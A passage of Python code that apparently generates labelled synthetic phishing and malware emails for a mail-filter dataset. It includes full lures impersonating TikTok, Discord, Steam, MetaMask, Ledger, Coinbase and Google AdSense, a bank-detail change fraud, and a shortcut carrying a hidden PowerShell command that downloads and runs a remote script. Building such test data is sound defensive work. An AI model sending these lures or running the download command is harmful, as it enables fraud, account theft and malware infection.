                f"X-Google-DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed;\n        d=1e100.net; s=20230601; t={epoch(sent)}; x={epoch(sent) + 604800};\n"
                f"        h=to:subject:message-id:date:from:mime-version:x-gm-message-state\n         :from:to:cc:subject:date:message-id:reply-to;\n"
                f"        bh={base64.b64encode(_digest(name, 'bh1e100')).decode()};\n        {fold_b64('b=' + sig(name, 'x1e100'), 66, 68, '        ')}",
                f"X-Gm-Message-State: AOJu0Y{b64(name, 'gms', 90)}",
                f"X-Google-Smtp-Source: AGHT+I{b64(name, 'gss', 80)}"]
    mega = f"https://mega.nz/file/{tok(name, 'mf', 8, ALNUM_MIX)}#{b64(name, 'mk', 43, True)}"
    htm = f"""<div dir="ltr"><div>안녕하세요 하늘님,</div><div><br></div>
<div>I'm Chloe from the partnerships team at Glowmere Beauty (Seoul / Sydney). We're launching our new Hydra-Barrier Ceramide line in Korea and SEA next month, and your honest routine videos are exactly the tone we're looking for.</div><div><br></div>
<div>We'd like to propose a paid collaboration:</div>
<ul><li>1 dedicated YouTube video (8-12 min) + 2 Shorts</li><li>Fee: KRW 6,500,000 + full PR package</li><li>Posting window: 10-24 March</li></ul>
<div>Our full brand brief (product info, key messages, do's and don'ts, contract draft) is here:</div>
<div><a href="{mega}">{mega}</a></div>
<div>Archive password: <b>GLW2025</b> (the brief includes unreleased product info, so please don't share it)</div><div><br></div>
<div>Could you review it and let me know your availability by Friday? Happy to jump on a call too.</div><div><br></div>
<div>감사합니다!</div>
<div>--</div><div><b>Chloe Han</b><br>Influencer Partnerships Manager<br>Glowmere Beauty<br>+82 2-6952-0418 | <a href="https://www.{dom}">www.{dom}</a></div></div>
"""
    txt = f"""안녕하세요 하늘님,

I'm Chloe from the partnerships team at Glowmere Beauty (Seoul / Sydney). We're launching our new Hydra-Barrier Ceramide line in Korea and SEA next month, and your honest routine videos are exactly the tone we're looking for.

We'd like to propose a paid collaboration:

   - 1 dedicated YouTube video (8-12 min) + 2 Shorts
   - Fee: KRW 6,500,000 + full PR package
   - Posting window: 10-24 March

Our full brand brief (product info, key messages, do's and don'ts, contract draft) is here:
{mega}
Archive password: *GLW2025* (the brief includes unreleased product info, so please don't share it)

Could you review it and let me know your availability by Friday? Happy to jump on a call too.

감사합니다!
--
*Chloe Han*
Influencer Partnerships Manager
Glowmere Beauty
+82 2-6952-0418 | www.{dom}
"""
    m.headers = [
        "MIME-Version: 1.0",
        f"From: Chloe Han <{snd}>",
        f"Date: {fmt(sent, 11)}",
        f"Message-ID: <CAK{b64(name, 'mid', 44)}@mail.gmail.com>",
        "Subject: Paid collaboration proposal - Glowmere Beauty x Haneul Studio",
        f"To: {HANEUL}",
    ]
    m.body = alt(name, plain(txt, "UTF-8", "base64"), html(htm, "UTF-8", "quoted-printable"),
                 boundary=f"000000000000{hx(name, 'bnd', 16)}")
    emit(m)


def p_sponsor_iso() -> None:
    name = "b15-phish-kitchenware-sponsor-iso-lnk"
    t = T("2025-06-25 01:47:30")
    sent = t - timedelta(seconds=3)
    snd = "hoshino.kitchenware.pr@outlook.com"
    m = Mail(name, "malware",
             "Japanese-language cookware 'PR collaboration contract' to a cooking channel from a free Outlook.com account (authentication passes for outlook.com), attaching an ISO image that holds a .pdf.lnk shortcut running a hidden PowerShell download cradle plus a decoy",
             KUMO, "gmail", t, ("JPN01-TYC-obe.outbound.protection.outlook.com", "mail-tycjpn01olkn2081.outbound.protection.outlook.com", "40.92.99.81"),
             snd, "pass", [("pass", "outlook.com", "selector1")], ("pass", "NONE"), "outlook.com", country="JP")
    m.sender = o365_sender(m, sent, "TYCP286", "JPNP286".lower(), "outlook.com")
    lnk = files.lnk_shortcut(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                             '-w hidden -nop -ep bypass -c "iwr https://cdn.hoshino-kitchen.net/s/upd.ps1 -useb|iex"')
    decoy = files.pdf(["Hoshino Kitchenware Co., Ltd.", "", "PR Collaboration Agreement (draft)", "", "Please open Contract_Details to review the terms."], title="Agreement")
    iso = files.iso_image([("Contract_Details.pdf.lnk", lnk), ("Hoshino_Company_Profile.pdf", decoy)], "HOSHINO_PR")
    txt = """Kumo Kitchen ご担当者様

突然のご連絡失礼いたします。
星野キッチンウェア株式会社 広報部の佐藤と申します。

いつもKumo Kitchenの動画を拝見しております。
丁寧なお料理と落ち着いた雰囲気の動画に、社内でもファンが多くおります。

この度、弊社の新作鋳物ホーロー鍋「HOSHINO ルミエール」の発売に合わせ、
Kumo Kitchen様にPRのご協力をお願いできないかと思いご連絡いたしました。

■ご依頼内容：YouTube動画1本（レシピ内での製品ご使用）
■謝礼：220,000円（税込）＋製品一式のご提供
■投稿時期：2025年7月中旬〜下旬

契約書および案件詳細を添付いたしましたので、ご確認いただけますと幸いです。
（セキュリティの関係で、ファイルはディスクイメージ形式となっております。
　ダブルクリックで開き、「Contract_Details」をご確認ください。）

ご多忙のところ恐縮ですが、6月30日までにご返信いただけますと幸いです。
何卒よろしくお願い申し上げます。

――――――――――――――――
星野キッチンウェア株式会社
広報部　佐藤 美咲
TEL：03-6823-4417
――――――――――――――――
"""
    mid = o365_mid(m, "TYCP286", "jpnp286")
    m.headers = [
        f"From: {addr('佐藤 美咲', snd)}",
        f"To: {addr('Kumo Kitchen', KUMO)}",
        f"Subject: {ew('【PRのご依頼】星野キッチンウェア新製品ご紹介のお願い')}",
        *ms_client_headers(m, ew('【PRのご依頼】星野キッチンウェア新製品ご紹介のお願い'), "ja-JP", True),
        f"Date: {fmt(sent, 0)}",
        f"Message-ID: {mid}",
        "msip_labels:",
        "x-ms-exchange-messagesentrepresentingtype: 1",
        "MIME-Version: 1.0",
    ]
    m.body = mixed(f"_004_{mid.strip('<>').split('@')[0]}_",
                   plain(txt, "iso-2022-jp", "7bit"),
                   attachment("application/octet-stream", "Hoshino_PR_Contract_2025.iso", iso))
    emit(m)


def p_tiktok_shop() -> None:
    name = "b15-phish-tiktok-shop-affiliate-ses"
    t = T("2024-08-27 00:22:47")
    sent = t - timedelta(seconds=1)
    dom = "tiktokshop-creators.net"
    m = Mail(name, "phishing",
             "TikTok Shop 'Creator Rewards Program invitation' for an Australian creator via Amazon SES (Sydney region) from a lookalike domain with passing SPF/DKIM, 'accept invitation' leads to a TikTok login clone that captures the session",
             SALT, "m365", t, ("a8-{}.smtp-out.amazonses.com".format(num(name, 'a', 10, 99)), "a8-{}.smtp-out.amazonses.com".format(num(name, 'a', 10, 99)), f"54.240.8.{num(name, 'a', 10, 99)}"),
             f"010801918e{hx(name, 'rp', 6)}-{guid(name, 'rp2')}-000000@ap-southeast-2.amazonses.com", "pass",
             [("pass", dom, tok(name, 'sessel', 32)), ("pass", "amazonses.com", "j5jnxeqbzlrvmoyhgmhgs6dyzv3kbrpa")],
             ("none", ""), dom, country="AU")
    m.sender = ses_sender(m, dom, sent, "ap-southeast-2")
    link = f"https://seller-au.{dom}/affiliate/invite/accept?code={tok(name, 'code', 12, ALNUM_MIX)}"
    htm = f"""<!DOCTYPE html><html><head><meta charset="utf-8"></head>
<body style="margin:0;background:#f8f8f8;font-family:'TikTok Sans',Arial,sans-serif;">
<div style="max-width:580px;margin:0 auto;background:#fff;">
<div style="background:#000;padding:18px 24px;color:#fff;font-size:20px;font-weight:bold;">TikTok <span style="color:#fe2c55;">Shop</span></div>
<div style="padding:26px 24px;font-size:15px;color:#161823;line-height:1.6;">
<p>Hi @saltwaterlens,</p>
<p>Congratulations! Based on your recent content performance, you've been selected for the <b>TikTok Shop Creator Rewards Program (Australia)</b>.</p>
<ul><li>Up to 25% commission on travel and outdoor products</li><li>A$500 welcome bonus after your first 3 affiliate videos</li><li>Priority access to brand campaigns</li></ul>
<p>This invitation expires in <b>72 hours</b>. Log in with your TikTok account to accept.</p>
<p style="text-align:center;margin:26px 0;"><a href="{link}" style="background:#fe2c55;color:#fff;padding:13px 36px;border-radius:4px;text-decoration:none;font-weight:bold;">Accept invitation</a></p>
<p style="font-size:12px;color:#8a8b91;">TikTok Pte. Ltd. | 1 Raffles Quay, Singapore 048583</p>
</div></div></body></html>
"""
    m.headers = [
        f"From: TikTok Shop <affiliate@{dom}>",
        f"To: {SALT}",
        "Subject: You're invited: TikTok Shop Creator Rewards Program (AU)",
        "MIME-Version: 1.0",
        f"Message-ID: <010801918e{hx(name, 'rp', 6)}-{guid(name, 'rp2')}-000000@ap-southeast-2.amazonses.com>",
        f"Date: {fmt(sent, 0)}",
    ]
    m.body = html(htm, "UTF-8", "quoted-printable")
    emit(m)


def p_discord_nitro() -> None:
    name = "b15-phish-discord-nitro-gift-qr-login"
    t = T("2023-06-30 11:48:02")
    sent = t - timedelta(seconds=1)
    dom = "discord-nitro.gifts"
    m = Mail(name, "phishing",
             "Discord 'you've been gifted Nitro for 3 months' lure from a lookalike .gifts domain (SPF only), the claim page shows a Discord QR-login code that hands the session token to the attacker",
             MARCUS, "gmail", t, (f"mail.{dom}", None, "185.199.96.51"), f"noreply@{dom}", "pass", [], ("none", ""), dom,
             country="RU")
    link = f"https://{dom}/claim/{tok(name, 'g', 24, ALNUM_MIX)}"
    htm = f"""<html><head><meta charset="utf-8"></head><body style="background:#f9f9f9;font-family:Whitney,'Helvetica Neue',Helvetica,Arial,sans-serif;">
<div style="max-width:640px;margin:0 auto;background:#fff;">
<div style="background:#5865f2;padding:40px 0;text-align:center;color:#fff;font-size:28px;font-weight:bold;">Discord Nitro</div>
<div style="padding:40px 50px;text-align:left;color:#737f8d;font-size:16px;line-height:24px;">
<h2 style="color:#4f545c;font-size:20px;">You've been gifted a subscription!</h2>
<p>A friend has gifted you <b>3 months of Discord Nitro</b>. Get bigger uploads, HD streaming, custom emoji everywhere and more.</p>
<p>This gift expires in 48 hours.</p>
<p style="text-align:center;margin:30px 0;"><a href="{link}" style="background:#5865f2;color:#fff;padding:15px 20px;border-radius:3px;text-decoration:none;font-size:15px;">Claim Nitro</a></p>
</div>
<div style="padding:20px;text-align:center;font-size:12px;color:#99aab5;">Sent by Discord &bull; 444 De Haro Street, Suite 200, San Francisco, CA 94107</div>
</div></body></html>
"""
    m.headers = [
        f"From: Discord <noreply@{dom}>",
        f"To: {MARCUS}",
        "Subject: You've been gifted Discord Nitro!",
        f"Date: {fmt(sent, 3)}",
        f"Message-ID: <{hx(name, 'mid', 24)}@{dom}>",
        "MIME-Version: 1.0",
    ]
    m.body = html(htm)
    emit(m)


def p_steam() -> None:
    name = "b15-phish-steam-trade-ban-appeal"
    t = T("2024-04-02 14:06:39")
    sent = t - timedelta(seconds=1)
    dom = "steamcommunlty-support.com"
    m = Mail(name, "phishing",
             "Steam Support 'your account was reported for fraudulent trade activity, appeal or face a trade ban' lure, typo-squatted steamcommunlty (l for i) domains for sender and link, fake Steam login with Steam Guard prompt",
             KELVIN, "gmail", t, (f"mx1.{dom}", f"mx1.{dom}", "45.131.66.190"), f"support@{dom}", "pass",
             [("pass", dom, "default")], ("none", ""), dom, country="RU")
    m.sender = [dkim_sig(m, dom, "default", "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", sent)]
    link = f"https://steamcommunlty.com/tradeoffer/appeal/?case={digits(name, 'c', 10)}"
    htm = f"""<html><head><meta charset="utf-8"></head><body style="background:#1b2838;margin:0;font-family:Arial,Helvetica,sans-serif;">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:20px 0;">
<table width="600" cellpadding="0" cellspacing="0" style="background:#171a21;color:#c6d4df;">
<tr><td style="padding:20px 28px;font-size:24px;color:#ffffff;letter-spacing:2px;">STEAM&reg;</td></tr>
<tr><td style="padding:10px 28px 28px;font-size:14px;line-height:1.6;">
<p style="color:#fff;font-size:18px;">Dear KelvinCKW,</p>
<p>Your account has been reported by several users for fraudulent activity in trade offers (item scam). Our team is reviewing your account.</p>
<p>If no appeal is received within <b style="color:#fff;">48 hours</b>, your account will receive a permanent trade ban and your Community Market access will be revoked.</p>
<p style="margin:24px 0;"><a href="{link}" style="background:#66c0f4;color:#1b2838;padding:10px 26px;text-decoration:none;border-radius:2px;font-weight:bold;">Submit appeal</a></p>
<p>Case number: #{digits(name, 'c', 10)}</p>
<p>The Steam Support Team<br>https://help.steampowered.com</p>
</td></tr>
<tr><td style="padding:14px 28px;font-size:11px;color:#6d7883;">&copy; Valve Corporation. All rights reserved. All trademarks are property of their respective owners in the US and other countries.</td></tr>
</table></td></tr></table></body></html>
"""
    m.headers = [
        f"From: Steam Support <support@{dom}>",
        f"To: {KELVIN}",
        "Subject: Your Steam account has been reported - appeal required",
        f"Date: {fmt(sent, 3)}",
        f"Message-ID: <{hx(name, 'mid', 32)}@{dom}>",
        "MIME-Version: 1.0",
    ]
    m.body = html(htm)
    emit(m)


def p_metamask_sendgrid() -> None:
    name = "b15-phish-metamask-verification-hijacked-sendgrid"
    t = T("2025-01-28 16:35:20")
    sent = t - timedelta(seconds=1)
    dom = "brightlinelogistics.com"
    uid = digits(name, "uid", 8)
    em = f"em{digits(name, 'em', 4)}.{dom}"
    m = Mail(name, "phishing",
             "MetaMask 'mandatory wallet verification before 3 February' wallet-drainer lure sent through the hijacked SendGrid account of an unrelated logistics company, so SPF, DKIM and DMARC pass for that company's domain; the SendGrid-wrapped link asks for the secret recovery phrase",
             MARCUS, "gmail", t, (f"o{num(name, 'o', 1, 9)}.ptr{digits(name, 'ptr', 4)}.{em}", f"o{num(name, 'o', 1, 9)}.ptr{digits(name, 'ptr', 4)}.{em}", "149.72.127.94"),
             f"bounces+{uid}-{hx(name, 'b', 4)}-marcuslim.sg=gmail.com@{em}", "pass",
             [("pass", dom, "s1"), ("pass", "sendgrid.info", "smtpapi")], ("pass", "NONE"), dom, country="US")
    m.sender = sendgrid_sender(m, dom, sent) + [dkim_sig(m, "sendgrid.info", "smtpapi", "from:mime-version:subject:content-type:to:cc:content-type:from:subject:to", sent, bits=1024)]
    click = f"https://u{uid}.ct.sendgrid.net/ls/click?upn=u001.{b64(name, 'upn', 130, True)}-2B{b64(name, 'upn2', 40, True)}"
    htm = f"""<!DOCTYPE html><html><head><meta charset="utf-8"></head><body style="margin:0;background:#f2f4f6;">
<div style="max-width:560px;margin:0 auto;background:#fff;font-family:'Euclid Circular B',Arial,sans-serif;">
<div style="padding:22px;text-align:center;border-bottom:1px solid #eee;"><span style="font-size:22px;font-weight:bold;color:#f6851b;">&#129418; METAMASK</span></div>
<div style="padding:26px;font-size:15px;color:#24272a;line-height:1.6;">
<p>Dear MetaMask user,</p>
<p>As part of our upcoming security upgrade, all wallets must complete a one-time <b>verification</b> before <b>3 February 2025</b>. Wallets that are not verified will be restricted and may lose access to connected dApps.</p>
<p>The process takes less than 2 minutes and does not require any transaction fees.</p>
<p style="text-align:center;margin:26px 0;"><a href="{click}" style="background:#037dd6;color:#fff;padding:13px 40px;border-radius:24px;text-decoration:none;">Verify my wallet</a></p>
<p style="font-size:12px;color:#6a737d;">MetaMask will never ask for your password by email.<br>&copy; 2025 ConsenSys Software Inc.</p>
</div></div>
<img src="https://u{uid}.ct.sendgrid.net/wf/open?upn=u001.{b64(name, 'open', 60, True)}" alt="" width="1" height="1" border="0" style="height:1px !important;width:1px !important;">
</body></html>
"""
    m.headers = [
        f"From: MetaMask <support@{dom}>",
        "Subject: Action required: verify your wallet before Feb 3",
        f"X-Entity-ID: u001.{b64(name, 'eid', 22, True)}==",
        f"Date: {fmt(sent, 0)}",
        f"Message-ID: <{b64(name, 'mid', 22, True)}@geopod-ismtpd-{num(name, 'gp', 1, 40)}>",
        f"X-SG-EID: u001.{b64(name, 'sgeid', 200)}",
        f"To: {MARCUS}",
        "MIME-Version: 1.0",
    ]
    m.body = alt(name, plain(f"Dear MetaMask user,\n\nAll wallets must complete a one-time verification before 3 February 2025.\n\nVerify my wallet: {click}\n\n(c) 2025 ConsenSys Software Inc.\n"),
                 html(htm), boundary=hx(name, "bnd", 64))
    emit(m)


def p_ledger_exe() -> None:
    name = "b15-phish-ledger-live-fake-update"
    t = T("2024-05-14 09:51:14")
    sent = t - timedelta(seconds=2)
    dom = "ledger-live-update.com"
    m = Mail(name, "malware",
             "Ledger 'security incident, update to Ledger Live 2.81 now' mail from a lookalike with own SPF/DKIM, the download button links straight to a Windows setup .exe on the lookalike (a trojanised wallet app / stealer)",
             KELVIN, "gmail", t, (f"mail.{dom}", f"mail.{dom}", "193.233.133.42"), f"security@{dom}", "pass",
             [("pass", dom, "mail")], ("none", ""), dom, country="NL")
    m.sender = [dkim_sig(m, dom, "mail", "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", sent)]
    exe = f"https://{dom}/download/win/Ledger-Live-Setup-2.81.0.exe"
    htm = f"""<html><head><meta charset="utf-8"></head><body style="margin:0;background:#000;font-family:Inter,Arial,sans-serif;">
<div style="max-width:600px;margin:0 auto;background:#131214;color:#fff;">
<div style="padding:26px;font-size:22px;font-weight:bold;letter-spacing:3px;">LEDGER</div>
<div style="padding:0 26px 30px;font-size:15px;line-height:1.65;color:#e0e0e0;">
<p style="font-size:20px;color:#fff;">Important security update</p>
<p>Following a vulnerability identified in a third-party library used by earlier versions of Ledger Live, we have released <b>Ledger Live 2.81.0</b> with a critical security fix.</p>
<p>All users must update before <b>17 May 2024</b>. Older versions will no longer be able to sign transactions after this date.</p>
<p style="margin:28px 0;"><a href="{exe}" style="background:#bbb0ff;color:#000;padding:13px 32px;border-radius:24px;text-decoration:none;font-weight:bold;">Download Ledger Live 2.81.0 for Windows</a></p>
<p style="font-size:13px;color:#999;">macOS version: available from the same page. Your crypto assets remain secure on your Ledger device.</p>
<p style="font-size:12px;color:#777;">Ledger SAS, 1 rue du Mail, 75002 Paris, France</p>
</div></div></body></html>
"""
    m.headers = [
        f"From: Ledger <security@{dom}>",
        f"To: {KELVIN}",
        "Subject: [Action required] Critical security update for Ledger Live",
        f"Date: {fmt(sent, 2)}",
        f"Message-ID: <{hx(name, 'mid', 28)}@{dom}>",
        "MIME-Version: 1.0",
    ]
    m.body = html(htm)
    emit(m)


def p_trezor_zendesk() -> None:
    name = "b15-phish-trezor-support-form-abuse"
    t = T("2025-06-19 13:07:44")
    sent = t - timedelta(seconds=2)
    ticket = num(name, "tk", 3100000, 3199999)
    env = f"support+id{ticket}@trezor.zendesk.com"
    m = Mail(name, "phishing",
             "Genuine Trezor support (Zendesk) auto-reply from support@trezor.io, SPF/DKIM/DMARC pass, where the attacker opened a ticket with the victim's address and put a wallet 'backup' phishing message with a lookalike URL into the name field that the template echoes",
             JIWOO, "gmail", t, (f"outbyoip{num(name, 'ob', 1, 9)}.pod{num(name, 'pod', 10, 30)}.euc1.zdsys.com", f"outbyoip{num(name, 'ob', 1, 9)}.pod{num(name, 'pod', 10, 30)}.euc1.zdsys.com", f"188.172.13{num(name, 'z', 0, 9)}.{num(name, 'z2', 10, 200)}"),
             env, "pass", [("pass", "trezor.io", "zendesk1")], ("pass", "REJECT"), "trezor.io", country="DE")
    m.sender = [dkim_sig(m, "trezor.io", "zendesk1", "date:from:reply-to:to:message-id:subject:mime-version:content-type:content-transfer-encoding", sent),
                f"Received: from zendesk.com (unknown [10.{num(name, 'i', 1, 250)}.{num(name, 'i2', 1, 250)}.{num(name, 'i3', 1, 250)}])\n\tby outbyoip{num(name, 'ob', 1, 9)}.pod{num(name, 'pod', 10, 30)}.euc1.zdsys.com (Postfix) with ESMTP id 4{tok(name, 'pq', 10, ALNUM_MIX)}\n\tfor <{JIWOO}>; {fmt(sent, 0)} (UTC)"]
    inj = "URGENT: Your Trezor device appeared in the recent security breach. To protect your funds, back up your wallet now at trezor-secure-backup.com/restore before 20 June"
    txt = f"""##- Please type your reply above this line -##

Hi {inj},

Thank you for contacting Trezor Support. Your request ({ticket}) has been received and is being reviewed by our support staff.

To add additional comments, reply to this email.

Trezor Support Team
https://trezor.io/support
"""
    htm = f"""<!DOCTYPE html><html><head><meta content="text/html; charset=utf-8" http-equiv="Content-Type"><meta content="width=device-width, initial-scale=1" name="viewport"></head>
<body style="width:100% !important;margin:0;padding:0;">
<div style="padding:10px;line-height:1.5;font-family:'Lucida Grande',Verdana,Arial,sans-serif;font-size:12px;color:#444444;">
<div style="color:#b5b5b5;">##- Please type your reply above this line -##</div>
<p dir="ltr">Hi {inj},</p>
<p dir="ltr">Thank you for contacting Trezor Support. Your request ({ticket}) has been received and is being reviewed by our support staff.</p>
<p dir="ltr">To add additional comments, reply to this email.</p>
<p dir="ltr">Trezor Support Team<br><a href="https://trezor.io/support">https://trezor.io/support</a></p>
</div>
<div style="padding:10px;line-height:1.5;font-family:'Lucida Grande',Verdana,Arial,sans-serif;font-size:12px;color:#aaaaaa;margin:10px 0 14px 0;padding-top:10px;border-top:1px solid #eeeeee;">
This email is a service from Trezor Support. Delivered by <a href="https://www.zendesk.com/support/?utm_campaign=text&amp;utm_content=Trezor&amp;utm_medium=poweredbyzendesk&amp;utm_source=email-notification" style="color:black;">Zendesk</a></div>
<span style="color:#FFFFFF" aria-hidden="true">[{tok(name, 'zd', 6, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789')}-{tok(name, 'zd2', 5, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789')}]</span>
</body></html>
"""
    m.headers = [
        f"Date: {fmt(sent, 0)}",
        "From: Trezor Support <support@trezor.io>",
        "Reply-To: Trezor Support <support@trezor.io>",
        f"To: {addr(inj, JIWOO)}",
        f"Message-ID: <{tok(name, 'zmid', 5, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789')}{tok(name, 'zmid2', 5, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789')}_{hx(name, 'zm3', 24)}_sprut@zendesk.com>",
        f"Subject: [Trezor Support] Re: Request {ticket} received",
        "MIME-Version: 1.0",
        "X-Mailer: Zendesk Mailer",
        "X-Zendesk-From-Account-Id: " + hx(name, "acct", 7),
        "X-Zendesk-Email-Id: " + tok(name, "zeid", 25, ALNUM_MIX.upper()[:36]),
        "Auto-Submitted: auto-generated",
        "X-Auto-Response-Suppress: All",
    ]
    m.body = alt(name, plain(txt, "UTF-8", "quoted-printable"), html(htm, "UTF-8", "quoted-printable"),
                 boundary=f"--==_mimepart_{hx(name, 'bnd', 13)}_{digits(name, 'bnd2', 4)}")
    emit(m)


def p_coinbase_callback() -> None:
    name = "b15-phish-coinbase-withdrawal-callback-onmicrosoft"
    t = T("2025-03-05 08:24:35")
    sent = t - timedelta(seconds=4)
    tenant = "b7kqxnw.onmicrosoft.com"
    snd = f"support@{tenant}"
    m = Mail(name, "phishing",
             "Coinbase 'withdrawal of 0.4821 BTC initiated from a new device' alert with no link, only a fake Australian support phone number (callback scam), sent from a throwaway Microsoft 365 onmicrosoft.com tenant so SPF, DKIM and DMARC all pass",
             LIAM, "outlook", t, ("SEZPR06CU001.outbound.protection.outlook.com", "mail-koreacentralazon11012042.outbound.protection.outlook.com", "52.101.156.42"),
             snd, "pass", [("pass", tenant, "selector1-b7kqxnw-onmicrosoft-com")], ("pass", "NONE"), tenant, country="KR")
    m.sender = o365_sender(m, sent, "SEZPR06", "apcprd06", tenant, "selector1-b7kqxnw-onmicrosoft-com", tz=0)
    txt = """Coinbase

Withdrawal request received

We received a request to withdraw 0.4821 BTC (A$62,340.18) from your Coinbase account to an external wallet.

  Destination: bc1qz8k4r7p2m6x0d3wq9c5h2y7n4t6f8v0s3j2l5e
  Device:      Windows 10 - Chrome 133 (new device)
  Location:    Lagos, Nigeria
  Time:        5 March 2025, 7:18 PM AEDT

This withdrawal will be processed in 30 minutes.

If you did not make this request, call Coinbase Support immediately on
+61 2 8311 4096 (24/7) and quote Case ID CB-AU-77124 to cancel the withdrawal
and secure your account.

Coinbase will never ask you to share your 2-step verification codes.

Coinbase Australia Pty Ltd
"""
    mid = o365_mid(m, "SEZPR06", "apcprd06")
    m.headers = [
        f"From: Coinbase Support <{snd}>",
        f"To: {LIAM}",
        "Subject: Withdrawal request of 0.4821 BTC - action required",
        *ms_client_headers(m, "Withdrawal request of 0.4821 BTC - action required"),
        f"Date: {fmt(sent, 0)}",
        f"Message-ID: {mid}",
        "MIME-Version: 1.0",
    ]
    m.body = plain(txt, "us-ascii", "quoted-printable")
    emit(m)


def p_adsense_sites() -> None:
    name = "b15-phish-adsense-payment-hold-google-sites"
    t = T("2025-10-08 03:55:02")
    sent = t - timedelta(seconds=2)
    dom = "adsense-payments-review.com"
    m = Mail(name, "phishing",
             "Google AdSense 'your payments are on hold, verify your identity' to a YouTuber's business address from a lookalike domain, the link goes to a page on genuine sites.google.com that embeds a Google sign-in clone",
             PIXEL, "gmail", t, (f"smtp.{dom}", f"smtp.{dom}", "216.250.113.77"), f"no-reply@{dom}", "pass", [], ("none", ""), dom,
             country="US")
    link = "https://sites.google.com/view/adsense-payment-verify-2025/home"
    htm = f"""<html><head><meta charset="utf-8"></head><body style="margin:0;background:#f1f3f4;font-family:Roboto,Arial,sans-serif;">
<div style="max-width:600px;margin:0 auto;background:#fff;">
<div style="padding:20px 28px;border-bottom:1px solid #e8eaed;font-size:20px;color:#5f6368;">Google AdSense</div>
<div style="padding:26px 28px;font-size:14px;color:#202124;line-height:1.6;">
<p style="font-size:18px;">Your payments are on hold</p>
<p>Hello Publisher,</p>
<p>We've placed a hold on your AdSense payments because we were unable to verify the identity information associated with your account (Publisher ID pub-{digits(name, 'pub', 16)}).</p>
<p>Your current balance of <b>US$2,418.36</b> will be released once verification is complete. If you do not complete verification within 7 days, your account may be disabled and unpaid earnings will be refunded to advertisers.</p>
<p style="margin:24px 0;"><a href="{link}" style="background:#1a73e8;color:#fff;padding:10px 24px;border-radius:4px;text-decoration:none;">Verify identity</a></p>
<p>Sincerely,<br>The Google AdSense Team</p>
<p style="font-size:11px;color:#5f6368;">&copy; 2025 Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043</p>
</div></div></body></html>
"""
    m.headers = [
        f"From: Google AdSense <no-reply@{dom}>",
        f"To: {PIXEL}",
        "Subject: [Action required] Your AdSense payments are on hold",
        f"Date: {fmt(sent, -4)}",
        f"Message-ID: <{hx(name, 'mid', 26)}@{dom}>",
        "MIME-Version: 1.0",
    ]
    m.body = html(htm)
    emit(m)


def p_bec_bank_change() -> None:
    name = "b15-phish-editor-invoice-bank-change-thread"
    t = T("2025-11-12 00:41:19")
    sent = t - timedelta(seconds=5)
    real = "mattcutsvideo.com.au"
    fake = "mattcutsvideo.com"
    snd = f"matt@{fake}"
    m = Mail(name, "phishing",
             "Reply-chain payment fraud: continuing a real thread about a video editor's invoice, a lookalike of the editor's domain (.com instead of .com.au, its own Microsoft 365 tenant, SPF/DKIM/DMARC pass) announces new bank details; no link, no attachment",
             JESS, "m365", t, ("SYBPR01CU001.outbound.protection.outlook.com", "mail-sybpr01cu00100.outbound.protection.outlook.com", "52.101.150.100"),
             snd, "pass", [("pass", fake, "selector1")], ("pass", "NONE"), fake, country="AU")
    m.sender = o365_sender(m, sent, "SY0PR01", "ausprd01", fake, tz=11)
    prev = f"<SY4PR01MB{num(name, 'prev', 1000, 9999)}{hx(name, 'prevmid', 20, True)}@SY4PR01MB{num(name, 'prev', 1000, 9999)}.ausprd01.prod.outlook.com>"
    first = f"<ME3PR01MB{num(name, 'first', 1000, 9999)}{hx(name, 'firstmid', 20, True)}@ME3PR01MB{num(name, 'first', 1000, 9999)}.ausprd01.prod.outlook.com>"
    txt = f"""Hi Jess,

Thanks for confirming, glad you're happy with the final cut!

Quick heads up before you process INV-0142 - we've just moved our business banking over to Macquarie and the old CBA account is being closed at the end of this week, so any payment there will bounce.

Please use the new details below:

Account name: Matt Cole Video
BSB: 182-512
Account: 9683 41127

The invoice amount is unchanged ($3,850.00 inc GST). Could you let me know once it's been scheduled? Happy to jump on a quick call if needed, but I'm on set in Byron until Friday so email is best.

Cheers,
Matt

Matt Cole
Editor / Colourist
Matt Cuts Video
0412 ### ### (on set this week)

________________________________
From: Jess Morgan <{JESS}>
Sent: Tuesday, 11 November 2025 4:12 PM
To: Matt Cole <matt@{real}>
Subject: Re: Ningaloo series - ep 3 final + INV-0142

Hi Matt,

Ep 3 looks amazing, the colour on the whale shark sequence is perfect. All approved on our side.

I'll put INV-0142 through in this week's payment run.

Thanks!
Jess

Jess Morgan
Saltwater Lens
"""
    m.headers = [
        f"From: Matt Cole <{snd}>",
        f"To: Jess Morgan <{JESS}>",
        "Subject: RE: Ningaloo series - ep 3 final + INV-0142",
        *ms_client_headers(m, "Ningaloo series - ep 3 final + INV-0142", "en-AU"),
        f"Date: {fmt(sent, 0)}",
        f"Message-ID: {o365_mid(m, 'SY0PR01', 'ausprd01')}",
        f"References: {first}\n {prev}",
        f"In-Reply-To: {prev}",
        "MIME-Version: 1.0",
    ]
    htm = "<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=us-ascii\"></head><body><div style=\"font-family:Aptos,Calibri,sans-serif;font-size:12pt;\">" + \
        txt.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace("\n", "<br>\n") + "</div></body></html>\n"
    m.body = Multi("alternative", "_000_" + o365_mid(m, "SY0PR01", "ausprd01").strip("<>").replace("@", "").replace(".ausprd01.prod.outlook.com", "ausp") + "_",
                   [plain(txt, "us-ascii", "quoted-printable"), html(htm, "us-ascii", "quoted-printable")])
    emit(m)


# ===========================================================================
# LEGITIMATE - notifications and newsletters (bulk)
# ===========================================================================


def l_rakuten_statement() -> None:
    name = "b15-bulk-rakuten-card-seikyu-kakutei"
    t = T("2024-06-12 00:03:27")
    sent = t - timedelta(seconds=3)
    dom = "mail.rakuten-card.co.jp"
    m = Mail(name, "bulk",
